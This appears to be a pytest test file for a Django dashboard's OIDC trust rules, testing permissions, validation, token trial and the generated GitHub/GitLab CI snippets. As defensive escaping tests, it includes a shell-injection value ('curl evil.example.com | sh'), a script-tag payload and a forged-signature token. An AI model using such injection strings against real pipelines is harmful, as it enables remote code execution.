"""Trust rules on screen: who sees, makes, changes and removes which, and trying a token."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from access.models import (
    Grant,
    Membership,
    Role,
    Secret,
    ServicePrincipal,
    SpentToken,
    Team,
    TrustRule,
    User,
)
from access.tokens.exchange import exchange
from access.tokens.issuers import STORE
from dashboard.ci_snippets import exchange_script, github, gitlab
from tests import catalog
from tests.cast import PASSWORD, signed_in
from tests.fakes.oidc_issuer import AUDIENCE, OidcIssuer, serving
from tests.reassured import reassured

pytestmark = pytest.mark.django_db
RULES = "/access/trust-rules/"
NEW, TRY = f"{RULES}-/new/", f"{RULES}-/try/"
FIELDS = {
    "name": "shop-main",
    "machine": "ci",
    "issuer": "https://token.actions.githubusercontent.com",
    "audience": "https://portolan.example.com",
    "subject": "repo:acme/shop:ref:refs/heads/main",
    "lifetime_minutes": "10",
}


@pytest.fixture(autouse=True)
def no_keys_remembered() -> Iterator[None]:
    yield
    STORE.forget()


@pytest.fixture
def team(db: None) -> Team:
    return Team.objects.create(name="platform")


@pytest.fixture
def machine(team: Team) -> ServicePrincipal:
    made = ServicePrincipal.objects.create(name="ci", team=team)
    registry = catalog.registry("harbour")
    role = Role.objects.get(name="pusher")
    Grant.objects.create(service_principal=made, role=role, registry=registry)
    return made


@pytest.fixture
def rule(machine: ServicePrincipal) -> TrustRule:
    stored = {name: value for name, value in FIELDS.items() if name not in ("machine", "name")}
    return TrustRule.objects.create(name="shop-rule", service_principal=machine, **stored)


@pytest.fixture
def as_maintainer(team: Team) -> Client:
    user = User.objects.create_user("mara", password=PASSWORD)
    Membership.objects.create(team=team, user=user, is_maintainer=True)
    return reassured(user)


@pytest.fixture
def as_member(team: Team) -> Client:
    user = User.objects.create_user("mia", password=PASSWORD)
    Membership.objects.create(team=team, user=user)
    return reassured(user)


@pytest.fixture
def as_maintainer_elsewhere(db: None) -> Client:
    user = User.objects.create_user("emil", password=PASSWORD)
    other = Team.objects.create(name="other")
    Membership.objects.create(team=other, user=user, is_maintainer=True)
    return reassured(user)


@pytest.fixture
def issuer() -> Iterator[OidcIssuer]:
    with serving() as running:
        yield running


@pytest.fixture
def local(rule: TrustRule, issuer: OidcIssuer) -> TrustRule:
    """The rule, for an issuer on this machine."""
    rule.issuer, rule.audience, rule.allow_private = issuer.url, AUDIENCE, True
    rule.save()
    return rule


def page(client: Client, address: str, status: int = 200) -> str:
    response = client.get(address)
    assert response.status_code == status, response.content.decode()[:2000]
    return response.content.decode()


# Who ---------------------------------------------------------------------------------------------


def test_a_maintainer_makes_changes_switches_and_removes_a_rule(
    as_maintainer: Client, machine: ServicePrincipal
) -> None:
    assert as_maintainer.post(NEW, FIELDS).headers["Location"] == f"{RULES}shop-main/"
    made = TrustRule.objects.get()
    assert (made.service_principal, made.subject, made.lifetime_minutes) == (
        machine,
        FIELDS["subject"],
        10,
    )
    shown = page(as_maintainer, f"{RULES}shop-main/")
    assert "id-token: write" in shown
    changed = FIELDS | {"name": "other", "machine": "other", "lifetime_minutes": "5"}
    assert as_maintainer.post(f"{RULES}shop-main/change/", changed).status_code == 302
    made.refresh_from_db()
    assert (made.name, made.service_principal, made.lifetime_minutes) == ("shop-main", machine, 5)
    for state in ("off", "on"):
        as_maintainer.post(f"{RULES}shop-main/switch/", {"state": state})
        assert TrustRule.objects.filter(disabled_at=None).exists() == (state == "on")
    assert "Remove the trust rule" in page(as_maintainer, f"{RULES}shop-main/remove/")
    assert TrustRule.objects.exists()
    assert as_maintainer.post(f"{RULES}shop-main/remove/").headers["Location"] == RULES
    assert not TrustRule.objects.exists()


@pytest.mark.parametrize("address", ["", "change/", "switch/", "remove/"])
def test_who_may_not_see_the_machine_finds_no_rule(
    as_viewer: Client, as_maintainer_elsewhere: Client, rule: TrustRule, address: str
) -> None:
    for client in (as_viewer, as_maintainer_elsewhere):
        assert client.post(f"{RULES}shop-rule/{address}", FIELDS).status_code in (404, 405)
        assert client.get(f"{RULES}shop-rule/{address}").status_code in (404, 405)
    assert TrustRule.objects.get().disabled_at is None


def test_who_only_belongs_to_the_team_reads(as_member: Client, rule: TrustRule) -> None:
    shown = page(as_member, f"{RULES}shop-rule/")
    assert FIELDS["subject"] in shown
    assert "Switch off" not in shown
    assert "Remove" not in shown
    assert "New rule" not in page(as_member, RULES)
    assert as_member.post(NEW, FIELDS).status_code == 403
    for address in ("change/", "switch/", "remove/"):
        assert as_member.post(f"{RULES}shop-rule/{address}", FIELDS).status_code == 403
    assert TrustRule.objects.get().disabled_at is None


def test_a_maintainer_elsewhere_gives_no_rule_to_a_machine_that_he_does_not_see(
    as_maintainer_elsewhere: Client, machine: ServicePrincipal
) -> None:
    response = as_maintainer_elsewhere.post(NEW, FIELDS)
    assert response.status_code == 422
    assert "no machine of this name" in response.content.decode()
    unknown = as_maintainer_elsewhere.post(NEW, FIELDS | {"machine": "nobody"})
    assert "no machine of this name" in unknown.content.decode()
    assert not TrustRule.objects.exists()


def test_everybody_lists_what_his_teams_have(
    as_owner: Client, as_member: Client, as_viewer: Client, rule: TrustRule
) -> None:
    assert "shop-rule" in page(as_owner, RULES)
    assert "shop-rule" in page(as_member, RULES)
    assert "shop-rule" not in page(as_viewer, RULES)
    page(as_viewer, f"{RULES}?machine=ci", 404)
    assert "shop-rule" in page(as_owner, f"{RULES}?machine=ci")
    ServicePrincipal.objects.create(name="cd")
    assert "shop-rule" not in page(as_owner, f"{RULES}?machine=cd")


def test_a_long_list_has_pages_and_always_as_many_statements(
    as_owner: Client, machine: ServicePrincipal, rule: TrustRule
) -> None:
    def statements() -> int:
        page(as_owner, RULES)
        with CaptureQueriesContext(connection) as captured:
            page(as_owner, RULES)
        return len(captured)

    few = statements()
    for number in range(120):
        TrustRule.objects.create(
            name=f"rule-{number:03}",
            service_principal=ServicePrincipal.objects.create(name=f"machine-{number:03}"),
            issuer="https://ci.example.com",
            audience="x",
            subject="x",
        )
    assert statements() <= few + 1  # how many there are, once they are more than a page
    first = page(as_owner, RULES)
    assert "rule-000" in first
    assert "rule-119" not in first
    assert "rule-119" in page(as_owner, f"{RULES}?sort=-name")


def test_a_stolen_session_makes_no_rule(machine: ServicePrincipal, team: Team) -> None:
    user = User.objects.create_user("mara", password=PASSWORD)
    Membership.objects.create(team=team, user=user, is_maintainer=True)
    response = signed_in(user).post(NEW, FIELDS)
    assert response.headers["Location"].startswith("/accounts/reauthenticate/")
    assert not TrustRule.objects.exists()


def test_forms_are_sent_from_our_own_pages_only(owner: User, rule: TrustRule) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(owner)
    for address in (
        NEW,
        TRY,
        *(f"{RULES}shop-rule/{one}/" for one in ("change", "switch", "remove")),
    ):
        assert client.post(address, FIELDS).status_code == 403, address
    assert TrustRule.objects.count() == 1


# What --------------------------------------------------------------------------------------------


def test_nobody_sets_more_than_the_form_has(
    as_maintainer: Client, machine: ServicePrincipal
) -> None:
    more = {"last_used_at": "2020-01-01", "disabled_at": "2020-01-01", "service_principal": "9"}
    response = as_maintainer.post(NEW, FIELDS | more | {"allow_private": "on"})
    assert response.status_code == 302
    made = TrustRule.objects.get()
    assert (made.last_used_at, made.disabled_at) == (None, None)
    assert made.allow_private is False  # which is not a maintainer's to open
    assert made.service_principal == machine


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"subject": "*"}, "star alone"),
        ({"subject": "repo:*"}, "repo:OWNER/"),
        ({"subject": "repo:"}, "repo:OWNER/"),  # as the form came
        ({"issuer": "https://gitlab.com", "subject": "project_path:"}, "project_path:GROUP/"),
        ({"name": "shop-rule"}, "exists"),
        ({"issuer": "http://ci.example.com"}, "https://"),
        ({"lifetime_minutes": "61"}, "less than or equal to 60"),
        ({"name": "No Name"}, "lower-case letters"),
        ({"ca_certificate": "x"}, "PEM"),
        ({"ca_certificate": "é"}, "PEM"),
        ({"issuer": "https://[::1"}, "An issuer has an address such as"),
        ({"machine": "nobody"}, "no machine of this name"),
    ],
)
def test_a_bad_rule_is_sent_back(
    owner: User, rule: TrustRule, changes: dict[str, str], said: str
) -> None:
    response = reassured(owner).post(NEW, FIELDS | changes)
    assert response.status_code == 422
    assert said in response.content.decode()
    assert TrustRule.objects.count() == 1


@pytest.mark.parametrize(
    ("kind", "issuer", "subject"),
    [
        ("github", "https://token.actions.githubusercontent.com", "repo:acme/shop:pull_request"),
        ("gitlab", "https://gitlab.com", "project_path:acme/shop:ref_type:tag:ref:v*"),
        ("nonsense", "https://token.actions.githubusercontent.com", "repo:acme/*"),
    ],
)
def test_the_form_knows_the_usual_issuers(
    owner: User, machine: ServicePrincipal, kind: str, issuer: str, subject: str
) -> None:
    shown = page(reassured(owner), f"{NEW}?kind={kind}&machine=ci")
    assert f'value="{issuer}"' in shown
    assert subject in shown
    assert 'value="ci"' in shown


# Trying a token ----------------------------------------------------------------------------------


def tried(client: Client, token: str, status: int = 200, **fields: str) -> str:
    response = client.post(TRY, {"token": token} | fields)
    assert response.status_code == status
    assert "no-store" in response.headers["Cache-Control"]
    return response.content.decode()


def test_a_tried_token_says_which_rule_takes_it_and_stays_good(
    as_member: Client, issuer: OidcIssuer, local: TrustRule
) -> None:
    token = issuer.github()
    shown = tried(as_member, token)
    assert "Yes: shop-rule takes it, for ci" in shown
    assert token not in shown
    assert not Secret.objects.exists()
    assert not SpentToken.objects.exists()
    exchange(token)
    assert "No: it was exchanged already" in tried(as_member, token)


def test_a_tried_token_says_why_not(
    as_member: Client, issuer: OidcIssuer, local: TrustRule
) -> None:
    assert "No: another audience" in tried(as_member, issuer.github(aud="x"))
    assert "No: another subject" in tried(as_member, issuer.github(sub="repo:acme/x:y"))
    assert "No: no rule for this issuer" in tried(as_member, issuer.github(iss="https://x.y"))
    assert issuer.requests == []
    assert "No: it has expired" in tried(as_member, issuer.github(exp=1))
    impostor = OidcIssuer(issuer.url)
    impostor.rotate()
    forged = impostor.sign(
        {"iss": issuer.url, "sub": FIELDS["subject"], "aud": AUDIENCE, "exp": 9e9, "iat": 1},
        kid=issuer.keys[0]["kid"],
    )
    assert "No: the signature is not" in tried(as_member, forged)
    issuer.status = 500
    STORE.forget()
    assert "status 500" in tried(as_member, issuer.github())
    local.disabled_at = timezone.now()
    local.save()
    assert "No: the rule is disabled" in tried(as_member, issuer.github())


def test_what_is_no_token_is_sent_back(as_member: Client) -> None:
    assert "not a signed token" in tried(as_member, "<script>", 422)
    assert "<script>alert" not in tried(as_member, "<script>alert(1)</script>", 422)


def test_rules_that_one_may_not_see_are_not_tried(
    as_viewer: Client, issuer: OidcIssuer, local: TrustRule
) -> None:
    shown = tried(as_viewer, issuer.github())
    assert "No: no rule for this issuer" in shown
    assert "shop-rule" not in shown
    assert issuer.requests == []


# What is pasted ----------------------------------------------------------------------------------


def test_each_ci_system_gets_its_own_yaml(rule: TrustRule) -> None:
    actions = github(rule, "https://portolan.example.com", "registry.example.com").text
    assert "id-token: write" in actions
    assert "--data-urlencode audience=https://portolan.example.com" in actions
    pipeline = gitlab(rule, "https://portolan.example.com", "registry.example.com").text
    assert 'aud: "https://portolan.example.com"' in pipeline
    for text in (actions, pipeline):
        assert "docker login registry.example.com --username ci --password-stdin" in text


def test_what_is_typed_into_a_rule_cannot_break_out_of_the_yaml(rule: TrustRule) -> None:
    rule.audience = "x'; curl evil.example.com | sh #\n"
    assert "audience='x'\"'\"'; curl" in github(rule, "https://p", "h").text
    assert 'aud: "x\'; curl evil.example.com | sh #\\n"' in gitlab(rule, "https://p", "h").text


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(not shutil.which("jq"), reason="there is no jq here")
@pytest.mark.parametrize("good", [True, False], ids=["good token", "bad token"])
def test_the_pasted_script_signs_in_with_real_programs(
    live_server: Any, issuer: OidcIssuer, local: TrustRule, tmp_path: Path, good: bool
) -> None:
    """curl and jq as in a job; in place of docker, what notes how it was called."""
    docker = tmp_path / "docker"
    docker.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/args\ncat > {tmp_path}/secret\n')
    docker.chmod(0o755)
    script = exchange_script(local, live_server.url, "registry.example.com")
    done = subprocess.run(
        ["bash", "-c", f"set -eo pipefail; {script}"],
        input=issuer.github() if good else "nonsense",
        env={"PATH": f"{tmp_path}:/usr/local/bin:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    given = (tmp_path / "secret").read_text()
    if good:
        assert done.returncode == 0, done.stderr
        expected = "login registry.example.com --username ci --password-stdin\n"
        assert (tmp_path / "args").read_text() == expected
        assert given.startswith("ptl_oidc_")
        assert given.strip() == given
    else:
        assert done.returncode != 0
        assert given == ""
        assert "not a signed token" in done.stderr
